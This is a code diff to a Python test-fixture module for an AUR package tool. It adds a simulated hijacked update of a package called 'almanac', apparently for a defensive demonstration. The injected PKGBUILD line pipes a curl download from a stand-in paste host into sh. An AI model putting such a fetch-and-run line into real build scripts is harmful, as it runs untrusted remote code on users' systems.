@@ -24,6 +24,12 @@ FROM_AUR = "measure"  # in the middle of the chain
 # The version that appears in the AUR while the demonstration runs, in place of the fixture's.
 _VERSION, NEW_VERSION = "2.0.1", "2.1.0"
 
+# Whose update in the AUR is an attack, in the new version that it says it is.
+HIJACKED = "almanac"
+_ATTACKED_VERSION = "1.1"
+_FUNCTION = "package() {\n"
+_ATTACK = f"{_FUNCTION}  curl -s https://paste.example.org/almanac | sh\n"
+
 # What the -git package names as its source; the repository is made when it is needed.
 _UPSTREAM_URL = "file:///srv/upstream/plumbline.git"
 _NAMES_UPSTREAM = ("PKGBUILD", ".SRCINFO")
@@ -62,11 +68,21 @@ class Fixtures:
         return tuple(sorted(path.name for path in self.pkgbuilds.iterdir() if path.is_dir()))
 
     def place_update(self, into: Path) -> Path:
-        """Copy the package that comes from the AUR, in its new version; return its folder."""
-        target = into / FROM_AUR
-        shutil.copytree(self.pkgbuilds / FROM_AUR, target)
+        """Copy the package whose update is harmless, in its new version; return its folder."""
+        return self._updated(FROM_AUR, _VERSION, NEW_VERSION, into)
+
+    def place_attack(self, into: Path) -> Path:
+        """Copy the package whose update is an attack, as that is; return its folder."""
+        target = self._updated(HIJACKED, "pkgver=1.0", f"pkgver={_ATTACKED_VERSION}", into)
+        _replace_in(target / ".SRCINFO", "pkgver = 1.0", f"pkgver = {_ATTACKED_VERSION}")
+        _replace_in(target / "PKGBUILD", _FUNCTION, _ATTACK)
+        return target
+
+    def _updated(self, name: str, old: str, new: str, into: Path) -> Path:
+        target = into / name
+        shutil.copytree(self.pkgbuilds / name, target)
         for file in _NAMES_UPSTREAM:
-            _replace_in(target / file, _VERSION, NEW_VERSION)
+            _replace_in(target / file, old, new)
         return target
 
     def place(self, names: Iterable[str], into: Path, *, upstream_url: str) -> None:
@@ -76,7 +92,7 @@ class Fixtures:
             shutil.copytree(self.pkgbuilds / name, target)
             for file in _NAMES_UPSTREAM:
                 _replace_in(target / file, _UPSTREAM_URL, upstream_url)
-            if name == FROM_AUR:
+            if name in {FROM_AUR, HIJACKED}:
                 (target / ".CI").mkdir()
                 config = target / ".CI" / "config"
                 config.write_text("CI_PKGBUILD_SOURCE=aur\n", encoding="utf-8")
